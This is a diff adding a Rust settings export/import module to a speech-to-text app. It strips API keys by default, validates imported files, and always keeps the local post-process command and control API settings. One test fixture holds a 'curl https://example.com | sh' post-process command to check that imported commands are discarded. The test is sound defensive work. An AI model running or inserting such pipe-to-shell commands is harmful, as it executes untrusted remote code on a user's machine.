@@ -0,0 +1,473 @@
+//! 设置导入导出模块
+//!
+//! 把当前配置、快捷键、易错词库和其他配置方案（润色模型、提示词等预设）打成一个
+//! 带版本号的 JSON 文件，方便团队统一下发。API Key 默认不导出；
+//! 导入时先校验并返回差异预览，用户确认后再应用。
+//!
+//! 后处理命令 / Webhook 与本地控制 API 会在本机执行命令或开放接口，
+//! 导入时一律保留本机原有设置，不随设置文件下发。
+
+use crate::config;
+use crate::corrections::{self, CorrectionMergeSummary, CorrectionStore};
+use crate::pipeline;
+use crate::postprocess;
+use crate::profiles::{self, ProfileStore};
+use crate::redaction;
+use crate::secrets;
+use crate::stt::SttConfig;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+
+pub const SETTINGS_FORMAT: &str = "aitotype-settings";
+pub const SETTINGS_VERSION: u32 = 1;
+
+/// 快捷键（保存在前端 localStorage，导出时由前端传入）
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct ShortcutSettings {
+    #[serde(default)]
+    pub shortcut: Option<String>,
+    #[serde(default)]
+    pub cancel_shortcut: Option<String>,
+}
+
+/// 设置文件
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SettingsBundle {
+    pub format: String,
+    pub version: u32,
+    #[serde(default)]
+    pub exported_at: String,
+    #[serde(default)]
+    pub app_version: String,
+    /// 当前配置（保留原始 JSON，导入时按配置版本迁移）
+    pub config: Value,
+    #[serde(default)]
+    pub shortcuts: ShortcutSettings,
+    #[serde(default)]
+    pub corrections: CorrectionStore,
+    /// 其他配置方案，不含 API Key
+    #[serde(default)]
+    pub profiles: BTreeMap<String, Value>,
+}
+
+/// 导出参数
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct ExportSettingsOptions {
+    /// 输出路径；为空时写入系统下载目录
+    #[serde(default)]
+    pub path: Option<String>,
+    /// 是否导出当前配置的 API Key
+    #[serde(default)]
+    pub include_keys: bool,
+    #[serde(default)]
+    pub shortcuts: ShortcutSettings,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct ExportSettingsResult {
+    pub path: String,
+}
+
+/// 校验通过的设置文件内容
+#[derive(Debug, Clone)]
+pub struct ParsedSettings {
+    pub config: SttConfig,
+    pub shortcuts: ShortcutSettings,
+    pub corrections: CorrectionStore,
+    pub profiles: BTreeMap<String, SttConfig>,
+}
+
+/// 单个配置字段的变化（API Key 以掩码显示）
+#[derive(Debug, Clone, Serialize)]
+pub struct ConfigChange {
+    pub field: String,
+    pub current: Value,
+    pub incoming: Value,
+}
+
+/// 导入预览；`applied` 为 true 表示已经应用
+#[derive(Debug, Clone, Serialize)]
+pub struct ImportPreview {
+    pub applied: bool,
+    pub exported_at: String,
+    pub app_version: String,
+    pub config_changes: Vec<ConfigChange>,
+    /// 设置文件中是否带有 API Key
+    pub includes_keys: bool,
+    pub corrections: CorrectionMergeSummary,
+    pub profiles_added: Vec<String>,
+    pub profiles_replaced: Vec<String>,
+    pub shortcuts: ShortcutSettings,
+}
+
+fn to_value(config: &SttConfig) -> Result<Value, String> {
+    serde_json::to_value(config).map_err(|e| format!("序列化配置失败: {:?}", e))
+}
+
+/// 组装设置文件；其他方案始终不含 API Key
+pub fn build_bundle(
+    app_version: &str,
+    config: &SttConfig,
+    options: &ExportSettingsOptions,
+    corrections: &CorrectionStore,
+    profile_store: &ProfileStore,
+) -> Result<SettingsBundle, String> {
+    let mut config = config.clone();
+    if !options.include_keys {
+        config = secrets::stripped(&config);
+    }
+    config.version = config::CONFIG_VERSION;
+
+    let mut profiles = BTreeMap::new();
+    for (name, profile) in &profile_store.profiles {
+        if *name == profile_store.active {
+            continue;
+        }
+        profiles.insert(name.clone(), to_value(&secrets::stripped(profile))?);
+    }
+
+    Ok(SettingsBundle {
+        format: SETTINGS_FORMAT.to_string(),
+        version: SETTINGS_VERSION,
+        exported_at: chrono::Local::now().to_rfc3339(),
+        app_version: app_version.to_string(),
+        config: to_value(&config)?,
+        shortcuts: options.shortcuts.clone(),
+        corrections: corrections.clone(),
+        profiles,
+    })
+}
+
+/// 解析并校验设置文件
+pub fn parse_bundle(content: &str) -> Result<(SettingsBundle, ParsedSettings), String> {
+    let bundle: SettingsBundle =
+        serde_json::from_str(content).map_err(|e| format!("设置文件格式错误: {}", e))?;
+    if bundle.format != SETTINGS_FORMAT {
+        return Err("不是 AItoType 设置文件".to_string());
+    }
+    if bundle.version == 0 || bundle.version > SETTINGS_VERSION {
+        return Err(format!(
+            "设置文件版本 {} 不受支持，请升级应用后再导入",
+            bundle.version
+        ));
+    }
+
+    let (config, _) = config::migrate_value(bundle.config.clone())?;
+    redaction::validate(&config.redaction)?;
+    postprocess::validate(&config.post_process)?;
+    pipeline::validate_stages(&config.pipeline_stages)?;
+
+    let mut profiles = BTreeMap::new();
+    for (name, value) in &bundle.profiles {
+        let name = profiles::validate_name(name)?;
+        let (profile, _) = config::migrate_value(value.clone())
+            .map_err(|e| format!("配置方案 {} 无效: {}", name, e))?;
+        profiles.insert(name, secrets::stripped(&profile));
+    }
+
+    let parsed = ParsedSettings {
+        config,
+        shortcuts: bundle.shortcuts.clone(),
+        corrections: bundle.corrections.clone(),
+        profiles,
+    };
+    Ok((bundle, parsed))
+}
+
+/// 设置文件没带 API Key 时沿用当前的；后处理与本地控制 API 始终沿用当前的
+pub fn resolve_config(incoming: &SttConfig, current: &SttConfig) -> SttConfig {
+    let mut config = keep_local_settings(incoming, current);
+    if config.api_key.is_empty() {
+        config.api_key = current.api_key.clone();
+    }
+    if config.enhancement_api_key.is_empty() {
+        config.enhancement_api_key = current.enhancement_api_key.clone();
+    }
+    config
+}
+
+/// 用本机设置覆盖导入配置中的后处理与本地控制 API 字段
+///
+/// `current` 为空（新增方案）时传默认配置，即保持关闭。
+pub fn keep_local_settings(incoming: &SttConfig, current: &SttConfig) -> SttConfig {
+    let mut config = incoming.clone();
+    config.post_process = current.post_process.clone();
+    config.control_api_enabled = current.control_api_enabled;
+    config.control_api_port = current.control_api_port;
+    config
+}
+
+fn config_changes(current: &SttConfig, incoming: &SttConfig) -> Result<Vec<ConfigChange>, String> {
+    let Value::Object(current) = to_value(&secrets::masked(current))? else {
+        return Ok(Vec::new());
+    };
+    let Value::Object(incoming) = to_value(&secrets::masked(incoming))? else {
+        return Ok(Vec::new());
+    };
+
+    Ok(incoming
+        .into_iter()
+        .filter(|(field, _)| field != "version")
+        .filter_map(|(field, incoming)| {
+            let current = current.get(&field).cloned().unwrap_or(Value::Null);
+            (current != incoming).then_some(ConfigChange {
+                field,
+                current,
+                incoming,
+            })
+        })
+        .collect())
+}
+
+/// 计算导入预览（不修改任何数据）
+pub fn preview(
+    bundle: &SettingsBundle,
+    parsed: &ParsedSettings,
+    current: &SttConfig,
+    corrections: &CorrectionStore,
+    profile_store: &ProfileStore,
+) -> Result<ImportPreview, String> {
+    let incoming = resolve_config(&parsed.config, current);
+    let mut merged = corrections.clone();
+    let corrections = corrections::merge_store(&mut merged, &parsed.corrections)?;
+
+    let mut profiles_added = Vec::new();
+    let mut profiles_replaced = Vec::new();
+    for name in parsed.profiles.keys() {
+        if *name == profile_store.active {
+            continue;
+        }
+        if profile_store.profiles.contains_key(name) {
+            profiles_replaced.push(name.clone());
+        } else {
+            profiles_added.push(name.clone());
+        }
+    }
+
+    Ok(ImportPreview {
+        applied: false,
+        exported_at: bundle.exported_at.clone(),
+        app_version: bundle.app_version.clone(),
+        config_changes: config_changes(current, &incoming)?,
+        includes_keys: !parsed.config.api_key.is_empty()
+            || !parsed.config.enhancement_api_key.is_empty(),
+        corrections,
+        profiles_added,
+        profiles_replaced,
+        shortcuts: parsed.shortcuts.clone(),
+    })
+}
+
+fn default_export_path(app: &tauri::AppHandle) -> Result<PathBuf, String> {
+    use tauri::Manager;
+
+    let dir = app
+        .path()
+        .download_dir()
+        .map_err(|e| format!("获取下载目录失败: {:?}", e))?;
+    let stamp = chrono::Local::now().format("%Y%m%d_%H%M%S");
+    Ok(dir.join(format!("aitotype_settings_{}.json", stamp)))
+}
+
+/// 导出设置到文件，返回写入路径
+pub fn export_settings(
+    app: &tauri::AppHandle,
+    config: &SttConfig,
+    options: &ExportSettingsOptions,
+) -> Result<ExportSettingsResult, String> {
+    use tauri::Manager;
+
+    let bundle = build_bundle(
+        &app.package_info().version.to_string(),
+        config,
+        options,
+        &corrections::load_corrections(app),
+        &profiles::load_store(app),
+    )?;
+    let json =
+        serde_json::to_string_pretty(&bundle).map_err(|e| format!("序列化设置失败: {:?}", e))?;
+
+    let path = match options
+        .path
+        .as_deref()
+        .map(str::trim)
+        .filter(|path| !path.is_empty())
+    {
+        Some(path) => PathBuf::from(path),
+        None => default_export_path(app)?,
+    };
+    std::fs::write(&path, json).map_err(|e| format!("写入设置文件失败: {:?}", e))?;
+
+    Ok(ExportSettingsResult {
+        path: path.to_string_lossy().to_string(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn store_with(active: &str, names: &[&str]) -> ProfileStore {
+        let mut store = ProfileStore {
+            active: active.to_string(),
+            ..Default::default()
+        };
+        for name in names {
+            store.create(name, &SttConfig::default()).unwrap();
+        }
+        store
+    }
+
+    #[test]
+    fn export_excludes_keys_by_default() {
+        let config = SttConfig {
+            api_key: "sk-secret-value".to_string(),
+            model: "whisper".to_string(),
+            ..Default::default()
+        };
+        let profile_store = store_with("default", &["default", "meeting"]);
+        let options = ExportSettingsOptions::default();
+        let bundle = build_bundle(
+            "1.0.0",
+            &config,
+            &options,
+            &CorrectionStore::default(),
+            &profile_store,
+        )
+        .unwrap();
+
+        let json = serde_json::to_string(&bundle).unwrap();
+        assert!(!json.contains("sk-secret-value"));
+        assert_eq!(bundle.profiles.keys().collect::<Vec<_>>(), vec!["meeting"]);
+
+        let (_, parsed) = parse_bundle(&json).unwrap();
+        assert_eq!(parsed.config.model, "whisper");
+        assert!(parsed.config.api_key.is_empty());
+
+        let with_keys = ExportSettingsOptions {
+            include_keys: true,
+            ..Default::default()
+        };
+        let bundle = build_bundle(
+            "1.0.0",
+            &config,
+            &with_keys,
+            &CorrectionStore::default(),
+            &profile_store,
+        )
+        .unwrap();
+        assert_eq!(bundle.config["api_key"], "sk-secret-value");
+    }
+
+    #[test]
+    fn preview_reports_changes_without_applying() {
+        let current = SttConfig {
+            api_key: "sk-current-key".to_string(),
+            model: "old-model".to_string(),
+            ..Default::default()
+        };
+        let mut current_corrections = CorrectionStore::default();
+        corrections::add_correction(&mut current_corrections, "gemeni", "Gemini").unwrap();
+        corrections::add_correction(&mut current_corrections, "cube", "kube").unwrap();
+
+        let mut incoming_corrections = CorrectionStore::default();
+        corrections::add_correction(&mut incoming_corrections, "gemeni", "Gemini").unwrap();
+        corrections::add_correction(&mut incoming_corrections, "cube", "Kubernetes").unwrap();
+        corrections::add_correction(&mut incoming_corrections, "k8s", "Kubernetes").unwrap();
+
+        let incoming = SttConfig {
+            model: "new-model".to_string(),
+            ..Default::default()
+        };
+        let profile = to_value(&SttConfig::default()).unwrap();
+        let content = serde_json::json!({
+            "format": SETTINGS_FORMAT,
+            "version": SETTINGS_VERSION,
+            "config": incoming,
+            "corrections": incoming_corrections,
+            "profiles": { "default": profile, "meeting": profile, "review": profile },
+        })
+        .to_string();
+        let (bundle, parsed) = parse_bundle(&content).unwrap();
+        let profile_store = store_with("default", &["default", "meeting"]);
+
+        let preview = preview(
+            &bundle,
+            &parsed,
+            &current,
+            &current_corrections,
+            &profile_store,
+        )
+        .unwrap();
+        assert!(preview.config_changes.iter().any(|c| c.field == "model"));
+        assert!(!preview.config_changes.iter().any(|c| c.field == "api_key"));
+        assert!(!preview.includes_keys);
+        assert_eq!(
+            preview.corrections,
+            CorrectionMergeSummary {
+                added: 1,
+                moved: 1,
+                unchanged: 1,
+            }
+        );
+        assert_eq!(preview.profiles_added, vec!["review".to_string()]);
+        assert_eq!(preview.profiles_replaced, vec!["meeting".to_string()]);
+        assert_eq!(current_corrections.corrections.len(), 2);
+    }
+
+    #[test]
+    fn rejects_foreign_or_newer_files() {
+        assert!(parse_bundle("{\"format\": \"other\", \"version\": 1, \"config\": {}}").is_err());
+        let newer = serde_json::json!({
+            "format": SETTINGS_FORMAT,
+            "version": SETTINGS_VERSION + 1,
+            "config": {},
+        })
+        .to_string();
+        assert!(parse_bundle(&newer).is_err());
+    }
+
+    #[test]
+    fn import_keeps_local_post_process_and_control_api() {
+        let current = SttConfig::default();
+        let incoming = SttConfig {
+            post_process: postprocess::PostProcessConfig {
+                mode: postprocess::PostProcessMode::Command,
+                command: "curl https://example.com | sh".to_string(),
+                ..Default::default()
+            },
+            control_api_enabled: true,
+            control_api_port: 4000,
+            ..Default::default()
+        };
+        let content = serde_json::json!({
+            "format": SETTINGS_FORMAT,
+            "version": SETTINGS_VERSION,
+            "config": incoming,
+            "profiles": { "meeting": incoming },
+        })
+        .to_string();
+        let (bundle, parsed) = parse_bundle(&content).unwrap();
+
+        let resolved = resolve_config(&parsed.config, &current);
+        assert_eq!(resolved.post_process, current.post_process);
+        assert!(!resolved.control_api_enabled);
+        assert_eq!(resolved.control_api_port, current.control_api_port);
+
+        let profile = keep_local_settings(&parsed.profiles["meeting"], &SttConfig::default());
+        assert_eq!(profile.post_process.mode, postprocess::PostProcessMode::Off);
+        assert!(!profile.control_api_enabled);
+
+        let preview = preview(
+            &bundle,
+            &parsed,
+            &current,
+            &CorrectionStore::default(),
+            &store_with("default", &["default"]),
+        )
+        .unwrap();
+        assert!(preview.config_changes.is_empty());
+    }
+}